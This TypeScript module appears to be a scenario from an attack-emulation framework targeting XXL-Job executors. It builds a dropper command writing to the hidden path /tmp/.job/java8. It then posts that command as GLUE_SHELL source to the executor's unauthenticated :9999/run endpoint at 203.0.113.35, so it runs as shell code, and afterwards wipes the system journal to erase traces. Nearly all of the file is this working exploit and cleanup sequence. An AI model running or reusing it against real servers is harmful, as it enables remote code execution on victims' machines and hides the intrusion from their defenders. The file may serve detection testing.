// Played by a toy with the logs of the executor and the script that stays.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { xxlJob } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy(xxlJob)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.job/java8' })
  stage.mark('occurrence')
  const body = {
    jobId: 1,
    executorHandler: 'demoJobHandler',
    executorParams: 'demoJobHandler',
    executorBlockStrategy: 'COVER_EARLY',
    executorTimeout: 0,
    logId: 1,
    logDateTime: 1586629003729,
    glueType: 'GLUE_SHELL',
    glueSource: line,
    glueUpdatetime: 1586699003758,
    broadcastIndex: 0,
    broadcastTotal: 0,
  }
  await stage.http('203.0.113.35', ':9999/run', JSON.stringify(body), { 'Content-Type': 'application/json' })
  await wipe(stage, ['journal'])
}
